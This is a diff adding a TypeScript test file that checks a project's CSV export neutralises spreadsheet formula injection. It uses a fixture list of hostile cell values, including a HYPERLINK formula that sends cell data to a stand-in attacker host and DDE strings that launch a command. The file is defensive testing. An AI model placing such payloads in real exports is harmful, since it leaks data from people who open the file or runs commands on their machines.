@@ -1,0 +1,101 @@
+// CSV safe for spreadsheets: every writer (the extension's research CSV, `carbon-ledger convert`)
+// neutralises cells a spreadsheet would run as a formula, keeps numbers as numbers, and every
+// reader (the loaders, `validate`) gets the shop's text back unchanged.
+
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { readExport } from '../../../analysis/load/read.ts';
+import { checkExportFile, type Problem } from '../../../analysis/validate/check.ts';
+import { parseCsvRows } from '../../../shared/csv.ts';
+import type { LedgerEvent } from '../../../shared/events.ts';
+import { csvCell, csvText, neutraliseFormula } from '../../../shared/export/csv-cell.ts';
+import { CSV_COLUMNS, researchCsv, researchExport } from '../../../shared/export/research.ts';
+import { runBin } from '../cli/run-bin.ts';
+import { kettle, sampleEvent } from '../ledger/samples.ts';
+
+/** Titles a shop page could carry to attack whoever opens the export in a spreadsheet. */
+const HOSTILE = [
+  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  "'=already quoted",
+  "''@twice",
+];
+
+/** What a spreadsheet would run: a cell (after CSV unquoting) starting with a formula character. */
+const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell);
+
+const hostileEvents = (): LedgerEvent[] =>
+  HOSTILE.map((title, i) => {
+    const event = sampleEvent(i % 2 ? 'choice-made' : 'product-viewed', '2026-11-02', 8 + i);
+    const product = { ...kettle, title, brand: `-${title}` };
+    const study = { studyId: 'csv-study', arm: 'control', participantId: 'p-1' };
+    return { ...event, study, data: { ...event.data, product } } as LedgerEvent;
+  });
+
+describe('csvCell', () => {
+  it('prefixes a quote to text a spreadsheet would run, and only to that text', () => {
+    for (const title of HOSTILE) expect(runnable(neutraliseFormula(title))).toBe(false);
+    expect(neutraliseFormula('Kettle = good')).toBe('Kettle = good');
+    expect(neutraliseFormula("It's fine")).toBe("It's fine");
+    expect(csvCell('=1+1')).toBe("'=1+1");
+    expect(csvCell('=SUM(A1,A2)')).toBe(`"'=SUM(A1,A2)"`);
+  });
+
+  it('writes numbers as numbers, negative ones too', () => {
+    expect(csvCell(-2.5)).toBe('-2.5');
+    expect(csvCell(0)).toBe('0');
+    expect(csvCell(null)).toBe('');
+  });
+
+  it('is undone exactly by csvText, whatever the text', () => {
+    for (const text of [...HOSTILE, 'plain', "'", "'plain", '', '-', "'-", "'''=x"]) {
+      expect(csvText(neutraliseFormula(text))).toBe(text);
+    }
+  });
+});
+
+describe('the extension research CSV', () => {
+  it('leaves no runnable cell when titles and brands are hostile, and numbers unquoted', () => {
+    const rows = parseCsvRows(researchCsv(hostileEvents())).slice(2);
+    expect(rows).toHaveLength(HOSTILE.length);
+    const title = CSV_COLUMNS.indexOf('productTitle');
+    const price = CSV_COLUMNS.indexOf('priceAmount');
+    for (const row of rows) {
+      for (const cell of row) expect(runnable(cell), cell).toBe(false);
+      expect(row[price]).toBe('39.99');
+    }
+    expect(rows.map((row) => csvText(row[title]!)).sort()).toEqual([...HOSTILE].sort());
+  });
+});
+
+describe('carbon-ledger convert to CSV', () => {
+  it('neutralises hostile titles; the loaders and validate read them back as they were', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'carbon-ledger-csv-'));
+    const input = join(dir, 'hostile.json');
+    const events = hostileEvents();
+    writeFileSync(input, JSON.stringify(researchExport(events, { exportedAt: '2026-11-03T00:00:00.000Z' })));
+    const out = join(dir, 'hostile.csv');
+    const { code, stderr } = await runBin(['convert', input, '--out', out]);
+    expect(stderr).not.toMatch(/Error|at .*\.ts/);
+    expect(code).toBe(0);
+    const rows = parseCsvRows(readFileSync(out, 'utf8')).slice(2);
+    for (const row of rows) for (const cell of row) expect(runnable(cell), cell).toBe(false);
+
+    const read: string[] = [];
+    await readExport(out, (event) => read.push(`${event.productTitle}|${event.brand}`));
+    expect(read.sort()).toEqual(
+      events
+        .map((e) => `${'product' in e.data && e.data.product.title}|${'product' in e.data && e.data.product.brand}`)
+        .sort(),
+    );
+    const problems: Problem[] = [];
+    await checkExportFile(out, (p) => problems.push(p));
+    expect(problems).toEqual([]);
+  });
+});
